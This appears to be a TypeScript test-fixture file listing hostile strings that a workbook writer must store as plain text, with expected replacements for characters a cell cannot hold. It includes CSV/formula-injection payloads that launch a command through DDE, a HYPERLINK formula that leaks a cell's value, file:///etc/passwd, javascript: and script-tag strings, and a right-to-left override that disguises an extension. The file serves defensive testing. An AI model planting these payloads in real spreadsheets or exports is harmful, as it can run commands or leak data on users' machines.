const long = (head: string, length: number): string => head.padEnd(length, 'abc ');

/**
 * Texts that somebody may have put into a workbook to be taken for something else: a formula, a link, markup, an escape, a number, a
 * date, an error. Each must come out as the text that it is.
 * @see OWASP, "CSV Injection"; ECMA-376 part 1, 22.9.2.19 (_xHHHH_)
 */
export const hostileTexts: readonly string[] = [
  '=1+1', '=A1', '=', '==', '+1+1', '+', '-1+1', '-', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '@A1',
  '\t=1+1', ' =1+1', '\n=1+1', '\u00a0=1+1', '\u200b=1+1', '＝1+1', '"=1+1"', '\'=1+1', '\'\'=1+1', '\'', '\'abc',
  '=HYPERLINK("https://example.org/?leak="&A1,"Click")', 'HYPERLINK("https://example.org")', 'https://example.org/a?b=1&c=2',
  'www.example.org', 'mailto:a@example.org', '\\\\server\\share\\x', 'file:///etc/passwd', 'javascript:alert(1)',
  '=cmd|\' /C calc\'!A0', 'DDE("cmd";"/C calc";"x")', '=WEBSERVICE("https://example.org")', '=IMPORTXML(A1,"//a")', '{=1+1}', '=\'[x.xlsx]S\'!A1',
  '<script>alert(1)</script>', '</t></si><si><t>more', ']]>', '<![CDATA[x]]>', '&lt;b&gt;', '&amp;', '&#65;', '&bad;', '<!--', '-->', '<?xml version="1.0"?>', '"/><f>1+1</f>',
  '_x000D_', '_x000d_ and _x0041_', '_x005F_x000D_', 'x_x0000_', '_x', '&&P &D &[Tab]', '&"Arial,Bold"&14x',
  '\u200fيسار', '\u200eleft\u200f', 'e\u0301', 'Ŵŷ Môn', '\u{1f600} smile', '\ufeffmark', 'a\u2028b', '%00', '${x} {name} {0} $& $1',
  '#N/A', '#REF!', '#DIV/0!', '1e5', '1E+5', '0x1F', '0123', '1,234', '12.50', '50%', '£5', '(5)', '1/2', '2015-16', '2024-03-01', '01/02/2024', '1 March', 'Mar-24', '12:30', 'TRUE', 'false', 'TRUE ', 'null', 'NaN', '__proto__', 'constructor',
  long('=', 300), long('Long ', 32_767), long('9 ', 32_766),
]; // prettier-ignore

/** Texts that no cell can hold as they are, each with what must stand there instead. */
export const unkeepableTexts: readonly (readonly [string, string])[] = [
  ['a\u0000b\u0007c', 'abc'],
  ['a\r\nb\rc', 'a\nb\nc'],
  ['\r=1+1', '\n=1+1'],
  ['a\u202egnp.exe\u202c', 'agnp.exe'],
  ['\u2066=1\u2069', '=1'],
  ['\ufffeend\uffff', 'end'],
  ['lone \ud800 high', 'lone \ufffd high'],
  ['\udc00 low', '\ufffd low'],
  [long('Long ', 40_000), long('Long ', 32_767)],
  [long('=', 40_000), long('=', 32_766)],
  [`${long('Long ', 32_766)}\u{1f600}`, long('Long ', 32_766)],
];
